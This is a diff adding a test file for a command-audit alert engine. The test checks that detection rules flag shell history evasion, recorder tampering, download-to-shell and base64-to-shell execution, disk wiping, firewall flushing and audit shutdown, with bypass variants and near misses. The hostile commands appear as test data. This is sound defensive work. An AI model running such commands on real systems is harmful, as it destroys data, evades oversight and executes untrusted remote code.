@@ -1,0 +1,135 @@
+/**
+ * Every built-in rule against commands it must match (bypasses included) and near misses it must
+ * not; config rules with scope and exceptions; the regex guard.
+ */
+import { describe, expect, test } from "bun:test";
+import { BUILTIN_RULES } from "../../server/src/alerts/builtin-rules.ts";
+import { activeRules, matchRecord, type RuleConfig, ruleSchema, type RuleInput } from "../../server/src/alerts/rules.ts";
+
+const input = (command: string, over: Partial<RuleInput> = {}): RuleInput => ({ command, kind: "command", flags: [], hostname: "web-1", luser: "alice", suser: "root", ...over });
+const builtins = activeRules({ rules: [], disabled_builtins: [] });
+const ids = (command: string, over: Partial<RuleInput> = {}) => matchRecord(builtins, input(command, over)).map((r) => r.id);
+
+const CORPUS: Record<string, { hit: string[]; miss: string[] }> = {
+  "evasion.history-off": {
+    hit: ["set +o history", "sudo -i; set +o history", "set -e +o history", "true && set +o history"],
+    miss: ["set -o history", "echo 'set +o history'", "set +H", "vim set.txt"],
+  },
+  "evasion.history-vars": {
+    hit: ["unset HISTFILE", "export HISTFILE=/dev/null", "HISTFILE=/dev/null", "HISTCONTROL=ignorespace", "export HISTIGNORE='*'", "HISTSIZE=0 bash", "unset PROMPT_COMMAND", "declare -x HISTFILESIZE=0", "PROMPT_COMMAND= ls"],
+    miss: ["echo $HISTFILE", "cat ~/.bash_history", "grep HISTFILE /etc/profile", "export PATH=$PATH:/opt/bin", "MYHISTFILE=x"],
+  },
+  "evasion.history-edit": {
+    hit: ["history -c", "history -d 42", "history -cw", "history -s 'ls'", "history -w /dev/null"],
+    miss: ["history", "history 20", "history | grep ssh", "history -w", "man history"],
+  },
+  "evasion.recorder-files": {
+    hit: ["rm /etc/profile.d/00-cmdaudit.sh", "sudo mv /var/log/cmdaudit/commands.log /tmp", "truncate -s0 /var/log/cmdaudit/commands.log", "echo x > /var/log/cmdaudit/commands.log",
+      "vim /etc/profile.d/00-cmdaudit.sh", "cp /dev/null /var/lib/cmdaudit/state.json", "sed -i d /etc/bash.bashrc", "rm -f /etc/cron.d/cmdaudit"],
+    miss: ["cat /var/log/cmdaudit/commands.log", "tail -f /var/log/cmdaudit/commands.log", "ls -l /etc/profile.d/", "grep alice /var/log/cmdaudit/commands.log", "vim /etc/profile.d/other.sh"],
+  },
+  "evasion.chattr": {
+    hit: ["chattr -a /var/log/cmdaudit/commands.log", "sudo chattr -i /etc/passwd", "chattr -ia x"],
+    miss: ["chattr +a /var/log/x", "lsattr /var/log", "chattr +i x"],
+  },
+  "evasion.kill-recorder": {
+    hit: ["pkill -f cmdaudit", "killall cmdaudit-reporter", "systemctl stop cmdaudit-stampd", "sudo systemctl disable cmdaudit-stampd.service", "crontab -r"],
+    miss: ["kill -9 1234", "systemctl status cmdaudit-stampd", "pkill nginx", "crontab -l"],
+  },
+  "evasion.other-shell": {
+    hit: ["exec sh", "exec /bin/zsh", "bash --norc", "bash --noprofile -i", "sh", "zsh", "exec bash", "busybox sh"],
+    miss: ["bash", "bash script.sh", "sh ./install.sh", "sh -c 'ls'", "zsh --version", "bash -c 'echo hi'"],
+  },
+  "exec.download-to-shell": {
+    hit: ["curl -fsSL https://x.example/i.sh | sh", "wget -qO- http://x/y | sudo bash", "curl x | tee log | bash", "sh <(curl -s https://x/y)", 'bash -c "$(wget -qO- http://x)"',
+      "curl https://x | python3", "curl -s x|bash -s -- --yes"],
+    miss: ["curl -o install.sh https://x/i.sh", "wget http://x/file.tar.gz", "curl x | jq .", "cat install.sh | less", "echo curl | sh"],
+  },
+  "exec.base64-to-shell": {
+    hit: ["echo Y3VybA== | base64 -d | sh", "base64 --decode p.txt | bash", "echo x | base64 -D | zsh", "xxd -r -p x | sh", "openssl base64 -d -in x | bash"],
+    miss: ["echo hi | base64", "base64 -d x > y", "base64 -d x | less"],
+  },
+  "destroy.rm-root": {
+    hit: ["rm -rf /", "sudo rm -rf /*", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf --no-preserve-root /", "rm -Rf //", "cd /tmp && rm -rf /"],
+    miss: ["rm -rf /tmp/x", "rm -rf ./", "rm -f /", "rm -rf /var/lib/docker", "echo rm -rf /"],
+  },
+  "destroy.mkfs": {
+    hit: ["mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/vdb", "sudo mke2fs /dev/sdc", "wipefs -a /dev/sdb"],
+    miss: ["mkfs.ext4", "man mkfs", "ls /sbin/mkfs*", "mkdir fs"],
+  },
+  "destroy.dd-disk": {
+    hit: ["dd if=/dev/zero of=/dev/sda bs=1M", "sudo dd if=img of=/dev/nvme0n1", "dd of=/dev/vdb if=x", "dd if=/dev/urandom of=/dev/mmcblk0"],
+    miss: ["dd if=/dev/sda of=/tmp/disk.img", "dd if=/dev/zero of=/tmp/f bs=1M count=1"],
+  },
+  "destroy.firewall-flush": {
+    hit: ["iptables -F", "sudo iptables -t nat -F", "ip6tables --flush", "nft flush ruleset", "ufw disable", "systemctl stop firewalld"],
+    miss: ["iptables -L", "iptables -A INPUT -j ACCEPT", "nft list ruleset", "ufw status", "systemctl status firewalld"],
+  },
+  "destroy.audit-off": {
+    hit: ["systemctl stop auditd", "service auditd stop", "auditctl -e 0", "auditctl -D", "sudo systemctl mask auditd.service"],
+    miss: ["systemctl status auditd", "auditctl -l", "auditctl -e 1", "ausearch -k x"],
+  },
+};
+
+describe.each(Object.entries(CORPUS))("%s", (id, { hit, miss }) => {
+  test.each(hit)("matches %j", (cmd) => {
+    expect(ids(cmd)).toContain(id);
+  });
+  test.each(miss)("does not match %j", (cmd) => {
+    expect(ids(cmd)).not.toContain(id);
+  });
+});
+
+test("every command rule has a corpus; the pipeline's rules match the record, not its text", () => {
+  expect(BUILTIN_RULES.map((r) => r.id).filter((id) => !id.startsWith("pipeline.") && !(id in CORPUS))).toEqual([]);
+  expect(ids("cmdaudit hook: 2 record(s) could not be written", { kind: "loss" })).toEqual(["pipeline.loss"]);
+  expect(ids("ls", { flags: ["forged"] })).toEqual(["pipeline.forged"]);
+  expect(ids("ls", { flags: ["conflict"] })).toEqual(["pipeline.conflict"]);
+  // A loss record's text is not a command: it runs nothing.
+  expect(ids("rm -rf /", { kind: "loss" })).toEqual(["pipeline.loss"]);
+  expect(ids("ls -la")).toEqual([]);
+});
+
+test("a built-in rule turned off matches nothing", () => {
+  const rules = activeRules({ rules: [], disabled_builtins: ["destroy.rm-root"] });
+  expect(matchRecord(rules, input("rm -rf /")).map((r) => r.id)).toEqual([]);
+});
+
+describe("config rules", () => {
+  const rule = (r: Partial<RuleConfig> & { id: string }) => ruleSchema.parse(r);
+  test("by program (through prefixes), with an args regex, in scope, outside exceptions", () => {
+    const rules = activeRules({
+      disabled_builtins: BUILTIN_RULES.map((b) => b.id),
+      rules: [
+        rule({ id: "reboot", severity: "critical", command: ["reboot", "shutdown", "poweroff"] }),
+        rule({ id: "init-level", command: "init", args: "^[06]$" }),
+        rule({ id: "db-drop", regex: "(?i)drop\\s+database".replace("(?i)", ""), hosts: ["db-*"], except: { users: ["dba"] } }),
+        rule({ id: "off", command: "ls", enabled: false }),
+      ],
+    });
+    const m = (cmd: string, over: Partial<RuleInput> = {}) => matchRecord(rules, input(cmd, over)).map((r) => r.id);
+    expect(m("sudo /sbin/reboot")).toEqual(["reboot"]);
+    expect(m("vim init.py")).toEqual([]);
+    expect(m("init 0")).toEqual(["init-level"]);
+    expect(m("init 3")).toEqual([]);
+    expect(m("mysql -e 'drop database prod'", { hostname: "db-1" })).toEqual(["db-drop"]);
+    expect(m("mysql -e 'drop database prod'", { hostname: "web-1" })).toEqual([]);
+    expect(m("mysql -e 'drop database prod'", { hostname: "db-1", luser: "dba" })).toEqual([]);
+    expect(m("ls")).toEqual([]);
+  });
+
+  test.each([
+    [{ id: "x" }, "a rule needs command (program names) or regex"],
+    [{ id: "x", args: "a" }, "a rule needs command"],
+    [{ id: "x", command: "ls", args: "(a+)+$" }, "exponential"],
+    [{ id: "x", regex: "(\\w*)*x" }, "exponential"],
+    [{ id: "x", regex: "(a)\\1" }, "backreference"],
+    [{ id: "x", regex: "([" }, "not a regular expression"],
+    [{ id: "X Y", regex: "a" }, "an id holds"],
+    [{ id: "x", regex: "a", extra: 1 }, "extra"],
+  ])("refused, naming the problem: %j", (r, problem) => {
+    const res = ruleSchema.safeParse(r);
+    expect(res.success).toBe(false);
+    expect(JSON.stringify(res.error?.issues)).toContain(problem);
+  });
+});
